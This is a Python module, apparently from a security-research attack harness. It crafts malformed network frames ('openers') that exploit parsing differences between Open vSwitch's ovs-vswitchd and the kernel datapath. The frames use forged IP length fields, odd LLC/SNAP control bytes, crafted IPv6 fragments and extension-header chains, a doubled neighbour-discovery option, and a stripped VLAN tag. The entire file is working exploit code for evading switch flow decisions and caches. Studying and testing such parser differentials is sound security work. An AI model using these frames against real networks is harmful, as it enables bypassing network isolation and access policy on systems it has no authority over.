"""Openers: a frame made over so that ovs-vswitchd reads something harmless, or nothing, where the kernel reads what the frame was.

Where the kernel forwards, what ovs-vswitchd decides about an opener is kept for the frame itself, too.
Each function gives None for a frame that it cannot be made of.
"""

from __future__ import annotations

from collections.abc import Callable
from ipaddress import IPv6Address

from attacks.frames import IPV4, IPV6, P, mac

Opener = Callable[[bytes], bytes | None]
_TAGS = (0x8100, 0x88A8)
_ND = (135, 136)
ICMP6, UDP, GRE, FRAGMENT, OPTIONS = 58, 17, 47, 44, 60


def split(frame: bytes) -> tuple[bytes, int, bytes]:
    """(addresses and tags, EtherType, what is inside)."""
    at = 12
    while len(frame) >= at + 6 and int.from_bytes(frame[at : at + 2], "big") in _TAGS:
        at += 4
    return frame[:at], int.from_bytes(frame[at : at + 2], "big"), frame[at + 2 :]


def _typed(head: bytes, kind: int, inside: bytes) -> bytes:
    return head + kind.to_bytes(2, "big") + inside


def checksum(header: bytes) -> bytes:
    """An IPv4 header with its checksum (RFC 1071)."""
    header = header[:10] + b"\0\0" + header[12:]
    total = sum(int.from_bytes(header[at : at + 2], "big") for at in range(0, len(header), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return header[:10] + (total ^ 0xFFFF).to_bytes(2, "big") + header[12:]


def ipv4_length(length: int | None) -> Opener:
    """K1, K2: the total length says less than the header, or (None) more than the frame holds."""

    def made(frame: bytes) -> bytes | None:
        head, kind, inside = split(frame)
        if kind != IPV4 or len(inside) < 28 or inside[0] != 0x45:
            return None
        said = length if length is not None else len(inside) + 100
        return _typed(head, kind, checksum(inside[:2] + said.to_bytes(2, "big") + inside[4:20]) + inside[20:])

    return made


def ipv6_length(length: int | None) -> Opener:
    """K1: the payload length says less than there is, or (None) more."""

    def made(frame: bytes) -> bytes | None:
        head, kind, inside = split(frame)
        if kind != IPV6 or len(inside) < 48:
            return None
        said = length if length is not None else len(inside) + 100
        return _typed(head, kind, inside[:4] + said.to_bytes(2, "big") + inside[6:])

    return made


def llc(control: int, size: int = 46) -> Opener:
    """K2: LLC and SNAP with a control byte that is not 3; the frame's own EtherType stands behind."""

    def made(frame: bytes) -> bytes | None:
        head, kind, inside = split(frame)
        if kind < 0x600:
            return None
        body = b"\xaa\xaa" + bytes([control]) + b"\0\0\0" + kind.to_bytes(2, "big") + inside
        return head + min(max(len(body), size), 1500).to_bytes(2, "big") + body

    return made


def _fragmented(frame: bytes, kind: int, offset: int, more: int, before: bytes = b"") -> bytes | None:
    head, ethertype, inside = split(frame)
    if ethertype != IPV6 or len(inside) < 48:
        return None
    last = inside[6]
    header = bytes([kind or last, 0]) + (offset | more).to_bytes(2, "big") + b"\0\0\0\x07"
    packet = header + before + inside[40:]
    return _typed(head, ethertype, inside[:4] + len(packet).to_bytes(2, "big") + bytes([FRAGMENT]) + inside[7:40] + packet)


def later_of_options(frame: bytes) -> bytes | None:
    """K3: a later fragment whose next header is an extension header: to the kernel a first one without a protocol."""
    return _fragmented(frame, OPTIONS, 8, 0)


def later(frame: bytes) -> bytes | None:
    return _fragmented(frame, 0, 8, 0)


def first(frame: bytes) -> bytes | None:
    return _fragmented(frame, 0, 0, 1)


def only(frame: bytes) -> bytes | None:
    """An atomic fragment (RFC 6946): none to ovs-vswitchd, a first one to the kernel."""
    return _fragmented(frame, 0, 0, 0)


def broken_chain(frame: bytes) -> bytes | None:
    """K3: a first fragment whose chain of headers ends early."""
    return _fragmented(frame, OPTIONS, 0, 1, b"\x3a\x0f" + bytes(6))


def doubled_options(frame: bytes) -> bytes | None:
    """K9: P's own advertisement, and behind the payload's length its option once more: without a target to the kernel."""
    head, kind, inside = split(frame)
    if kind != IPV6 or len(inside) < 64 or inside[6] != ICMP6 or inside[40] not in _ND:
        return None
    option = bytes([2, 1]) + mac(P.mac)
    own = IPv6Address(P.ip6).packed
    body = b"\x88\0\0\0\x20\0\0\0" + own + option
    packet = inside[:4] + len(body).to_bytes(2, "big") + inside[6:8] + own + inside[24:40] + body
    return _typed(head, kind, packet + option)


def first_tag_alone(frame: bytes) -> bytes | None:
    """A3: where Open vSwitch looks at more than one tag, its cache does not tell a frame with two from this one."""
    head, kind, inside = split(frame)
    return _typed(head[:16], kind, inside) if len(head) > 16 else None


OPENERS: dict[str, Opener] = {
    "total length 20": ipv4_length(20),
    "total length beyond the frame": ipv4_length(None),
    "payload length 0": ipv6_length(0),
    "payload length beyond the frame": ipv6_length(None),
    "LLC with control byte 0": llc(0),
    "LLC with control byte 7": llc(7),
    "a later fragment of options": later_of_options,
    "a later fragment": later,
    "a first fragment": first,
    "an only fragment": only,
    "a first fragment of a broken chain": broken_chain,
    "doubled options": doubled_options,
    "the first tag alone": first_tag_alone,
}


def opener_of(name: str, frame: bytes) -> bytes | None:
    """The opener of this name for a frame, without the frame's mark."""
    made = OPENERS[name](frame)
    return None if made is None or made == frame else made.replace(b"mark", b"open")
